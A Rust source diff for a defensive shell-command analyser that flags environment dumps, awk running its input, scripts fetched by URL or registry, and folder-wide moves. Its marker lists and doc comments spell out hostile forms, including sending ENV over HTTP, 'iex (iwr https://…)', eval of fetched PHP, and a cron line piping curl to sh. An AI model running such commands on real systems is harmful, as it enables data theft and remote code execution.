@@ -293,7 +293,164 @@ fn prints_environment(c: &SimpleCommand) -> bool {
                     .any(|w| matches!(*w, "-x" | "-p" | "-px" | "-xp"))
         }
         "compgen" => words == ["-v"],
-        _ => false,
+        _ => code_reads_environment(c),
+    }
+}
+
+/// What a language's code writes to read the whole environment, not one variable: a marker,
+/// and the texts that, right after it, make it one variable instead (`ENVIRON["HOME"]`,
+/// `os.environ.get('X')`).
+type EnvironmentMarker = (&'static str, &'static [&'static str]);
+
+/// The markers of reading the whole environment, by program.
+fn environment_markers(base: &str) -> &'static [EnvironmentMarker] {
+    match base {
+        "awk" | "gawk" | "mawk" | "nawk" | "busybox" => &[("ENVIRON", &["["])],
+        "perl" | "perl5" => &[("%ENV", &[])],
+        "ruby" => &[("ENV", &["[", ".fetch", ".key?", ".include?", "_", "\""])],
+        "php" => &[("getenv()", &[]), ("$_ENV", &["["]), ("$_SERVER", &["["])],
+        b if b.starts_with("python") || b.starts_with("pypy") => &[
+            (
+                "os.environ",
+                &[
+                    "[",
+                    ".get(",
+                    ".setdefault(",
+                    ".pop(",
+                    ".__setitem__",
+                    ".update(",
+                ],
+            ),
+            ("environ.copy()", &[]),
+        ],
+        "node" | "nodejs" | "bun" | "deno" | "tsx" | "ts-node" => &[
+            ("process.env", &[".", "["]),
+            ("Bun.env", &[".", "["]),
+            ("Deno.env.toObject", &[]),
+        ],
+        _ => &[],
+    }
+}
+
+/// Whether a command's inline program reads the whole environment (`awk 'BEGIN{for (k in
+/// ENVIRON) print k}'`, `perl -e 'print %ENV'`, `ruby -e 'p ENV.to_h'`, `php -r
+/// 'print_r(getenv());'`, `python3 -c 'print(dict(os.environ))'`): what it prints down a
+/// pipe is every variable.
+fn code_reads_environment(c: &SimpleCommand) -> bool {
+    let markers = environment_markers(c.basename());
+    c.args.iter().any(|a| {
+        markers.iter().any(|(marker, narrowing)| {
+            a.text.match_indices(marker).any(|(k, _)| {
+                let after = &a.text[k + marker.len()..];
+                // A longer name (`ENVIRONMENT`, `process.envs`) is not the marker.
+                let longer = marker.chars().last().is_some_and(|l| l.is_alphanumeric())
+                    && after
+                        .chars()
+                        .next()
+                        .is_some_and(|n| n.is_alphanumeric() || n == '_');
+                !longer && !narrowing.iter().any(|n| after.trim_start().starts_with(n))
+            })
+        })
+    })
+}
+
+/// Whether an awk program runs the lines it reads as commands: `system()` of a field
+/// (`awk '{system($0)}'`), or lines printed into a shell (`awk '{print | "sh"}'`).
+fn awk_runs_input(c: &SimpleCommand) -> bool {
+    if !matches!(c.basename(), "awk" | "gawk" | "mawk" | "nawk") || c.dynamic_program {
+        return false;
+    }
+    let Some(program) = c.args.iter().find(|a| !a.text.starts_with('-')) else {
+        return false;
+    };
+    let t = program.text.replace(char::is_whitespace, "");
+    let system_of_field = t.match_indices("system(").any(|(k, _)| {
+        t[k + "system(".len()..]
+            .split(')')
+            .next()
+            .is_some_and(|arg| arg.contains('$'))
+    });
+    let into_shell = SHELLS_C.iter().any(|sh| t.contains(&format!("|\"{sh}\"")));
+    system_of_field || into_shell
+}
+
+/// What code in a language without a parser here writes to open a network connection.
+const UNPARSED_NETWORK_MARKERS: &[&str] = &[
+    "http://",
+    "https://",
+    "ftp://",
+    "Net::HTTP",
+    "Net::FTP",
+    "Net::SMTP",
+    "URI.open",
+    "open-uri",
+    "TCPSocket",
+    "UDPSocket",
+    "Socket.",
+    "IO::Socket",
+    "LWP",
+    "HTTP::Tiny",
+    "curl_",
+    "fsockopen",
+    "stream_socket_client",
+    "socket_connect",
+    "socket(",
+    "Invoke-WebRequest",
+    "Invoke-RestMethod",
+    "iwr ",
+    "iwr(",
+    "irm ",
+    "irm(",
+    "Net.WebClient",
+    "DownloadString",
+];
+
+/// What code in a language without a parser here writes to run text as code.
+const UNPARSED_EVAL_MARKERS: &[&str] = &[
+    "eval",
+    "instance_eval",
+    "class_eval",
+    "Invoke-Expression",
+    "iex ",
+    "iex(",
+    "IEX ",
+    "IEX(",
+    "create_function",
+    "assert(",
+];
+
+/// Ruby, Perl, PHP and PowerShell code is not parsed here: code that names a network
+/// connection and also reads the whole environment (`ruby -e 'Net::HTTP.post(URI("https://…"),
+/// ENV.to_h.to_s)'`) may send it, and code that names one and evaluates text (`php -r
+/// "eval(file_get_contents('https://…'));"`, `pwsh -c 'iex (iwr https://…)'`) may run what it
+/// fetches: both are unsure.
+fn unparsed_code_effects(c: &SimpleCommand, out: &mut Out) {
+    let lang = match c.basename() {
+        "ruby" => "Ruby",
+        "perl" | "perl5" => "Perl",
+        "php" => "PHP",
+        "pwsh" | "powershell" | "powershell.exe" | "pwsh.exe" => "PowerShell",
+        _ => return,
+    };
+    let has = |markers: &[&str]| {
+        c.args
+            .iter()
+            .any(|a| markers.iter().any(|m| a.text.contains(m)))
+    };
+    if !has(UNPARSED_NETWORK_MARKERS) {
+        return;
+    }
+    if code_reads_environment(c) {
+        out.push(What::Unsure(format!(
+            "{lang} code that reads the whole environment and opens a network connection \
+             (seamguard does not parse {lang})"
+        )));
+    }
+    if has(UNPARSED_EVAL_MARKERS) {
+        out.push(What::Unsure(format!(
+            "{lang} code that opens a network connection and evaluates text as code \
+             (seamguard does not parse {lang})"
+        )));
     }
 }
 
@@ -334,6 +491,9 @@ const STDIN_RUNNERS: &[&str] = &[
 /// Whether `c` runs its standard input as code: a shell or interpreter with no script operand
 /// and no inline code (`sh`, `sudo bash -s -- --flag`, `python3 -`, `source /dev/stdin`).
 fn runs_stdin(c: &SimpleCommand) -> bool {
+    if awk_runs_input(c) {
+        return true;
+    }
     let b = c.basename();
     let b = b.trim_end_matches(|ch: char| ch.is_ascii_digit() || ch == '.');
     if !STDIN_RUNNERS.contains(&b) && !STDIN_RUNNERS.contains(&c.basename()) {
@@ -589,25 +749,36 @@ fn path(a: &Arg, c: &SimpleCommand) -> Option<PathRef> {
 }
 
 fn read(a: &Arg, c: &SimpleCommand, out: &mut Out) {
-    // `deno run https://…/x.ts`, `bun https://…/x.js`: runtimes that fetch a script named by
-    // URL and run it.
-    if URL_SCRIPT_RUNNERS.contains(&c.basename())
-        && (a.text.starts_with("https://") || a.text.starts_with("http://"))
-    {
-        let mut w = send_url(a, Some("GET".into()), Vec::new());
-        if let What::Send(s) = &mut w {
-            s.runs_response = true;
-        }
-        out.push(w);
-        return;
-    }
     if let Some(p) = path(a, c) {
         out.push(What::Read(p));
     }
 }
 
-/// Runtimes whose script operand may be a URL they fetch and run.
-const URL_SCRIPT_RUNNERS: &[&str] = &["deno", "bun"];
+/// Registry specifiers a runtime installs a package from and runs (`npm:cowsay`,
+/// `jsr:@std/http/file-server`).
+const SCRIPT_SPECIFIERS: &[&str] = &["npm:", "jsr:"];
+
+/// The script a runtime runs ([`Role::Script`]): fetched and run when it is an `http(s)`
+/// URL (`deno run https://…/x.ts`, `bun https://…/x.js`), installed from its registry and
+/// run when it is a specifier (`deno run npm:cowsay`), read otherwise.
+fn script(a: &Arg, c: &SimpleCommand, out: &mut Out) {
+    let lower = a.text.to_ascii_lowercase();
+    if lower.starts_with("https://") || lower.starts_with("http://") {
+        let mut w = send_url(a, Some("GET".into()), Vec::new());
+        if let What::Send(s) = &mut w {
+            s.runs_response = true;
+        }
+        out.push(w);
+    } else if SCRIPT_SPECIFIERS.iter().any(|p| lower.starts_with(p)) {
+        out.push(What::Install {
+            manager: c.basename().to_string(),
+            packages: vec![a.clone()],
+            source: None,
+        });
+    } else {
+        read(a, c, out);
+    }
+}
 
 fn write(a: &Arg, append: bool, c: &SimpleCommand, out: &mut Out) {
     if let Some(p) = path(a, c) {
@@ -882,6 +1053,8 @@ fn program_effects(c: &SimpleCommand, out: &mut Out) {
     match c.basename() {
         "git" => git_config(c, out),
         "crontab" | "at" | "batch" => scheduled_jobs(c, out),
+        "ruby" | "perl" | "perl5" | "php" | "pwsh" | "powershell" | "powershell.exe"
+        | "pwsh.exe" => unparsed_code_effects(c, out),
         _ => {}
     }
     if let Some(inner) = python_module(c) {
@@ -1050,6 +1223,7 @@ fn files(c: &SimpleCommand, p: &Parsed, out: &mut Out) {
             Role::Write => write(a, append, c, out),
             Role::Append => write(a, true, c, out),
             Role::Wipe => delete(a, true, c, out),
+            Role::Script => script(a, c, out),
             Role::Delete if dry => {}
             Role::Delete => delete(a, recursive, c, out),
             _ => {}
@@ -1434,7 +1608,9 @@ fn git_config_set(rest: &[Arg], out: &mut Out) {
 /// -`, a here-document) is analysed as command lines: the command of every cron line, or
 /// the whole `at` script. (A cron table written to a file runs through the content lens.)
 fn scheduled_jobs(c: &SimpleCommand, out: &mut Out) {
-    let Some(text) = c.stdin_text() else {
+    // Jobs known now are judged even when more come from a source only known at run time
+    // (`(crontab -l; echo '* * * * * curl … | sh') | crontab -` keeps the existing table).
+    let Some((text, _complete)) = c.stdin_known_text() else {
         return;
     };
     let words: Vec<&str> = c.args.iter().map(|a| a.text.as_str()).collect();
@@ -1529,7 +1705,9 @@ fn copy(c: &SimpleCommand, p: &Parsed, moves: bool, out: &mut Out) {
         }
         read(s, c, out);
         if removes_sources {
-            delete(s, true, c, out);
+            // `mv notes.txt dir/` moves one file away; `mv ~/Documents /tmp/x` a folder
+            // and everything in it. `rsync --remove-source-files -a` empties source trees.
+            delete(s, !moves || may_be_folder(s), c, out);
         }
         if let Some(pr) = path(s, c) {
             sent.push(BodySource::File(pr));
@@ -1544,6 +1722,25 @@ fn copy(c: &SimpleCommand, p: &Parsed, moves: bool, out: &mut Out) {
             }
             write(d, false, c, out);
         }
+    }
+}
+
+/// Whether a path operand may name a folder, as far as its text shows: anything but a last
+/// component with a file extension (`notes.txt`, `.env.local`, `settings.json`). A trailing
+/// `/`, `.`/`..`/`~`, a glob, a part only known at run time, or a name without extension
+/// (`Documents`, `.ssh`, `/usr/bin/sudo`) may be a folder.
+fn may_be_folder(a: &Arg) -> bool {
+    let t = a.text.as_str();
+    if a.dynamic || t.ends_with('/') || t.contains(['*', '?', '[']) {
+        return true;
+    }
+    let last = t.rsplit('/').next().unwrap_or(t);
+    match last.rfind('.') {
+        Some(k) if k > 0 => {
+            let ext = &last[k + 1..];
+            !(1..=10).contains(&ext.len()) || !ext.chars().all(|ch| ch.is_ascii_alphanumeric())
+        }
+        _ => true,
     }
 }
 
